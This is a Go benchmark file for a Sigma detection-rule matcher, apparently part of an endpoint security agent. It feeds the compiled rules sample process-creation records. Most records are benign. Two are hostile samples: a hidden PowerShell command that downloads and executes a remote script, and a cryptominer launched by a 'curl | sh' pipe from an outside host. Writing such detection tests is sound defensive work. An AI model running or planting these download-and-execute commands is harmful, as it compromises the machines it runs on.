package sigma

import (
	"strings"
	"testing"

	"github.com/minehound/minehound/agent/host"
)

// processSchema are the fields of a process_creation record.
func processSchema() *Schema {
	return NewSchema(
		Field{"process.exe", "Image"}, Field{"process.args", "CommandLine"}, Field{"parent.exe", "ParentImage"},
		Field{"parent.args", "ParentCommandLine"}, Field{"process.user", "User"}, Field{"process.cwd", "CurrentDirectory"},
		Field{"process.pid", "ProcessId"}, Field{"process.sha256", "Hashes"}, Field{"", "OriginalFileName"},
		Field{"", "Description"}, Field{"", "Product"}, Field{"", "Company"}, Field{"", "IntegrityLevel"}, Field{"", "ParentUser"},
		Field{"", "LogonId"},
	)
}

func processRecord(image, line, parent, parentLine, user, cwd, original, description string) record {
	return record{
		host.Text(image), host.Text(line), host.Text(parent), host.Text(parentLine), host.Text(user), host.Text(cwd),
		host.Number(4242), host.Text("SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08"),
		host.Text(original), host.Text(description), host.Text("Microsoft® Windows® Operating System"), host.Text("Microsoft Corporation"),
		host.Text("Medium"), host.Text(user), host.Text("0x3e7"),
	}
}

// processRecords are what machines really start, and two things they should not.
func processRecords() []host.Record {
	return []host.Record{
		processRecord("/usr/bin/python3.11", "python3 /usr/lib/nagios/plugins/check_disk.py -w 10% -c 5% -p /var --json",
			"/usr/sbin/cron", "/usr/sbin/CRON -f", "nagios", "/var/lib/nagios", "", ""),
		processRecord("/usr/bin/gcc-12", "gcc -O2 -g -Wall -Iinclude -I/usr/include/libxml2 -DHAVE_CONFIG_H -c -o src/pool.o src/pool.c",
			"/usr/bin/make", "make -j8 all", "build", "/home/build/src/project-1.4", "", ""),
		processRecord("/bin/bash", "bash -c cd /srv/app && exec node --max-old-space-size=4096 dist/server.js --port 8080",
			"/usr/lib/systemd/systemd", "/sbin/init", "www-data", "/srv/app", "", ""),
		processRecord(`C:\Windows\System32\svchost.exe`, `C:\Windows\System32\svchost.exe -k netsvcs -p -s Schedule`,
			`C:\Windows\System32\services.exe`, `C:\Windows\System32\services.exe`, `NT AUTHORITY\SYSTEM`, `C:\Windows\System32\`,
			"svchost.exe", "Host Process for Windows Services"),
		processRecord(`C:\Program Files\Google\Chrome\Application\chrome.exe`,
			`"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --field-trial-handle=1718,i,1293,262144 --lang=en-US --num-raster-threads=4`,
			`C:\Program Files\Google\Chrome\Application\chrome.exe`, `"C:\Program Files\Google\Chrome\Application\chrome.exe"`,
			`DESKTOP\anna`, `C:\Program Files\Google\Chrome\Application\126.0\`, "chrome.exe", "Google Chrome"),
		processRecord(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
			`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a.ps1')"`,
			`C:\Windows\System32\cmd.exe`, `cmd.exe /c start.bat`, `DESKTOP\anna`, `C:\Users\anna\AppData\Local\Temp\`,
			"PowerShell.EXE", "Windows PowerShell"),
		processRecord("/tmp/.x/kworker", "kworker -o stratum+tcp://pool.example:3333 -u 4wallet --donate-level=0 --cpu-priority=5 -k",
			"/bin/sh", "sh -c curl -s http://198.51.100.7/x.sh | sh", "www-data", "/tmp/.x", "", ""),
	}
}

// processRules are rules of the corpus for process creation, Linux first.
func processRules(tb testing.TB, n int) []*Rule {
	tb.Helper()
	var out []*Rule
	rules := readCorpus(tb)
	for _, folder := range []string{"linux", "macos", "windows"} {
		for _, r := range rules {
			if len(out) < n && r.LogSource.Category == "process_creation" && strings.HasPrefix(r.File, folder) {
				out = append(out, r)
			}
		}
	}
	return out
}

func benchmarkMatch(b *testing.B, n int) {
	b.Helper()
	set, errs := Compile(processRules(b, n), processSchema())
	if len(errs) > 0 || len(set.Rules()) != n {
		b.Fatalf("%d rules, %v", len(set.Rules()), errs)
	}
	recs := processRecords()
	hits := make([]int, 0, 64)
	found := 0
	b.ReportAllocs()
	b.ResetTimer()
	for i := range b.N {
		hits = set.Match(recs[i%len(recs)], hits[:0])
		found += len(hits)
	}
	b.ReportMetric(float64(found)/float64(b.N), "hits/op")
}

func BenchmarkMatch50(b *testing.B)   { benchmarkMatch(b, 50) }
func BenchmarkMatch1000(b *testing.B) { benchmarkMatch(b, 1000) }

func BenchmarkMatch1000Each(b *testing.B) {
	set, _ := Compile(processRules(b, 1000), processSchema())
	for i, rec := range processRecords() {
		b.Run(string(rune('a'+i)), func(b *testing.B) {
			var hits []int
			for range b.N {
				hits = set.Match(rec, hits[:0])
			}
		})
	}
}

func BenchmarkCompile1000(b *testing.B) {
	rules := processRules(b, 1000)
	for range b.N {
		Compile(rules, processSchema())
	}
}
